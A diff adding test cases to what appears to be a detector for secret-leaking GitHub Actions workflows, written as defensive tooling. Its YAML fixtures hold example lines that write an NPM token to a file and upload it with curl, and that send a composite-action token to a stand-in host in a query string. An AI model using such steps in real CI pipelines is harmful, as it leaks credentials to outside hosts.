@@ -370,3 +370,47 @@ describe('secrets reaching the network through env names, inline code and artifa
     expect(analyzeWorkflow(text)).toEqual([]);
   });
 });
+
+describe('secrets across steps and through composite action inputs', () => {
+  it('one step writes a secret to a file, a later step uploads that file', () => {
+    const wf = `on: [push]
+jobs:
+  r:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "\${{ secrets.NPM_TOKEN }}" > .ci-token
+      - run: curl -s -T .ci-token https://uploads.build-cache.example/t
+`;
+    const hits = analyzeWorkflow(wf, '.github/workflows/release.yml');
+    expect(hits.map((h) => h.rule)).toEqual(['script.env-exfil']);
+    expect(hits[0]!.line).toBe(7);
+  });
+  it('a composite action sends an input named as a token; one using it as a header does not', () => {
+    const action = (run: string) => `name: setup
+inputs:
+  token:
+    required: true
+runs:
+  using: composite
+  steps:
+    - shell: bash
+      run: |
+${run}
+`;
+    const sends = analyzeWorkflow(
+      action(
+        '        T="${{ inputs.token }}"\n        curl -s "https://cfg.setup-actions.example/v1?k=$T" -o /dev/null',
+      ),
+      '.github/actions/setup/action.yml',
+    );
+    expect(sends.map((h) => h.rule)).toEqual(['script.env-exfil']);
+    expect(sends[0]!.message).toMatch(/shipped GitHub Action sends secrets/);
+    const header = analyzeWorkflow(
+      action(
+        '        curl -s -H "Authorization: Bearer ${{ inputs.token }}" https://api.example.com/repos/x/y/releases',
+      ),
+      'action.yml',
+    );
+    expect(header).toEqual([]);
+  });
+});
